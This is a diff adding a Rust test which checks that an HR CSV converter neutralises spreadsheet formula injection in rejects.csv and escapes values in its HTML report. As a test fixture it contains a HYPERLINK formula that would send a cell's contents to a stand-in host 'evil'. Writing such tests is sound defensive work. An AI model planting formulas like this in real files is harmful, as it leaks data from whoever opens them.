@@ -129,6 +129,49 @@ fn duplicate_external_ids_reject_every_row_naming_the_others() {
     assert_eq!(code, 2, "the dropped duplicate is still reported");
 }
 
+/// HR values are typed by employees; rejects.csv is opened in Excel by an admin. A value that
+/// Excel would run as a formula is written as text (a leading quote), numbers and phone numbers
+/// stay readable, the file still reads as CSV with one column per header, and the report shows
+/// the values as they were.
+#[test]
+fn rejects_csv_neutralises_formulas_and_keeps_its_columns() {
+    let dir = tempfile::tempdir().unwrap();
+    let evil = r#"=HYPERLINK("http://evil/?"&A1,"x")"#;
+    // Row 2 is rejected (no such date); every hostile cell is in it, and in a header.
+    let csv = format!(
+        "{}\n1,a,Active,Ann,,,2024-03-01,7,ok\n2,\"{}\",Active,@SUM(1+1),+49 89 5558796,-5,2024-02-30,3,\"\t=1+1\"\n",
+        HEAD.trim_end().to_string() + ",-Note",
+        evil.replace('"', "\"\"")
+    );
+    let (code, err) = convert(dir.path(), &csv, &[]);
+    assert_eq!(code, 2, "{err}");
+    let out = dir.path().join("out");
+    // Not flexible: a record with another number of fields than the header is an error.
+    let mut r = csv::Reader::from_path(out.join("rejects.csv")).expect("rejects.csv");
+    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
+    assert_eq!(head.len(), 11, "{head:?}");
+    assert_eq!(head[10], "'-Note");
+    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("same columns")).collect();
+    assert_eq!(rows.len(), 1);
+    let row: Vec<&str> = rows[0].iter().collect();
+    assert_eq!(row.len(), 11);
+    assert_eq!(row[0], "line 3");
+    assert!(row[1].contains("hireDate"), "{row:?}");
+    assert_eq!(row[2..5], ["2", format!("'{evil}").as_str(), "Active"]);
+    assert_eq!(row[5], "'@SUM(1+1)");
+    assert_eq!(row[6], "+49 89 5558796", "a phone number stays readable");
+    assert_eq!(row[7], "-5", "a negative number stays a number");
+    assert_eq!(row[8..10], ["2024-02-30", "3"]);
+    assert_eq!(row[10], "'\t=1+1");
+    // The report reads the file back: the original values, HTML-escaped, no quote added.
+    let html = fs::read_to_string(out.join("report.html")).unwrap();
+    assert!(
+        html.contains("Login==HYPERLINK(&quot;http://evil/?&quot;&amp;A1,&quot;x&quot;)"),
+        "{html}"
+    );
+    assert!(html.contains("First=@SUM(1+1)") && html.contains("-Note=\t=1+1"), "{html}");
+}
+
 /// Rows rejected by the cross-row checks after their batch was written keep their original
 /// fields in rejects.csv: read again from a CSV file, or from the spool for standard input.
 #[test]
